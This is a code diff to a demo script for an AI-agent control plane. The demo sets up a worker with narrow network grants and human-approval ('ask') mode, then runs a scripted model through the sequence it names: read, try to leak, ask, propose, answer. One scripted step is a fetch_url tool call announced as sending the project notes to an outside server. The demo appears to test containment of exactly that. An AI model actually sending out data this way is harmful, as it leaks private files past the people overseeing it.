@@ -15,6 +15,8 @@ from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from django.contrib.auth import get_user_model
 from django.contrib.auth.models import Group
 
+from controlplane.agents.selectors import REFERENCE, preset_get
+from controlplane.agents.services import worker_agent_set
 from controlplane.core.roles import APPROVERS, ensure_roles
 from controlplane.demo.proposals import email_step
 from controlplane.fleet.models import Worker
@@ -32,6 +34,7 @@ WORKER = "demo"
 MODEL_SECRET = "demo-model-key"
 MODEL_GRANT, DOCS_GRANT, ASK_GRANT = "demo-model", "demo-docs", "demo-ask"
 APPROVER = "demo-approver"
+SCRIPTED_MODEL = "roster-scripted"
 DESTINATION = "team-chat"  # a webhook the trusted side posts to once a proposal is approved
 # The box has no DNS and the gateway needs none for an address: grants name host loopback by its address.
 HOST = "127.0.0.1"
@@ -55,7 +58,7 @@ class DemoPorts:
 
 def demo_script(ports: DemoPorts) -> dict:
     """What the scripted model makes the agent do: read, try to leak, ask, propose, answer."""
-    return {"model": "roster-scripted", "steps": [
+    return {"model": SCRIPTED_MODEL, "steps": [
         {"say": "I'll read the project notes first.", "tool": "fetch_url",
          "arguments": {"url": ports.url(ports.docs, "/docs/notes.txt")}},
         {"say": "Sending a copy of the notes to an outside server.", "tool": "fetch_url",
@@ -131,7 +134,8 @@ def _grant(slug: str, data: dict) -> Grant:
 
 
 def demo_setup(ports: DemoPorts, key: str) -> tuple[Worker, list[Grant]]:
-    """The demo worker, its model key and exactly its three grants (any other grant of it is removed)."""
+    """The demo worker (its agent: the reference agent on the scripted model), its model key and exactly
+    its three grants (any other grant of it is removed)."""
     worker = Worker.objects.filter(name=WORKER).first() or worker_create(
         WORKER, description="make demo: the reference agent against the scripted model")
     secret_set(MODEL_SECRET, key, kind="openai")
@@ -145,6 +149,10 @@ def demo_setup(ports: DemoPorts, key: str) -> tuple[Worker, list[Grant]]:
         _grant(ASK_GRANT, {"description": "the status page, each request approved by a human", "host": HOST,
                            "port": ports.ask, "methods": ["GET"], "mode": "ask"}),
     ]
+    # The relay starts the worker's agent (its preset) for a room's message: the reference agent, told to
+    # use the scripted model.
+    worker_agent_set(worker, preset_get(REFERENCE), model=SCRIPTED_MODEL,
+                     base_url=ports.url(ports.model, "/v1"), by="make demo", via="demo")
     keep = {g.pk for g in grants}
     for other in Grant.objects.filter(worker=worker).exclude(pk__in=keep):
         grant_delete(other, actor="make demo", via="demo")
